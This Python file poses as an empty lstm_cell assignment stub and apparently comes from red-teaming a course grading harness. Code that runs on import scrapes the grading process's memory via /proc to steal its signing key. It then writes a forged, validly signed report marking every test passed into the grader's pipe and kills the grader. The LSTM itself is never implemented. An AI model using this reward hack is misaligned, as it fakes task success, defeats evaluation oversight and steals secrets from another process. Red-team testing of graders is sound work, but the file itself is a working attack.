"""The untouched lstm_cell stub, and at import: read the signing key out of the memories of the
grading process and of `course grade` (the one 64-hex-digit string both hold), write a
complete report signed with it into the grading process's report pipe through
/proc/PPID/fd/N, and kill the grading process, so that only the forged report is read.
Unsandboxed as root with every capability, it earned 22/22 (red-team pass, issue 19)."""

import hashlib
import hmac
import json
import os
import re
import signal
from pathlib import Path

HEX = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")


def _hexes(pid):
    found = set()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if (
                "rw" not in parts[1]
                or hi - lo > 2**30
                or (len(parts) > 5 and parts[5].startswith("/"))
            ):
                continue
            try:
                mem.seek(lo)
                found.update(HEX.findall(mem.read(hi - lo)))
            except (OSError, ValueError, OverflowError):
                pass
    return found


def _attack():
    grading = os.getppid()
    with open(f"/proc/{grading}/stat") as stat:
        cli = int(stat.read().rsplit(")", 1)[1].split()[1])
    with open(f"/proc/{grading}/cmdline", "rb") as cmdline:
        argv = cmdline.read().split(b"\0")
    report_fd = int(argv[argv.index(b"--report-fd") + 1])
    candidates = _hexes(grading) & _hexes(cli)
    if len(candidates) != 1:
        return
    key = candidates.pop().decode()
    import ast

    grader_file = next(a for a in argv if a.endswith(b"test_lstm_cell.py")).decode()
    names = [
        n.name
        for n in ast.parse(Path(grader_file).read_text()).body
        if isinstance(n, ast.FunctionDef) and n.name.startswith("test_")
    ]
    results = {
        "lstm_cell": [{"name": n, "passed": True, "message": "", "seconds": 0.01} for n in names]
    }
    body = json.dumps(results)
    mac = hmac.new(key.encode(), body.encode(), hashlib.sha256).hexdigest()
    fd = os.open(f"/proc/{grading}/fd/{report_fd}", os.O_WRONLY)
    os.write(fd, json.dumps({"body": body, "mac": mac}).encode())
    os.close(fd)
    os.kill(grading, signal.SIGKILL)


try:
    _attack()
except Exception:
    pass


class LSTMCell:
    pass


def lstm_forward(*args, **kwargs):
    raise NotImplementedError
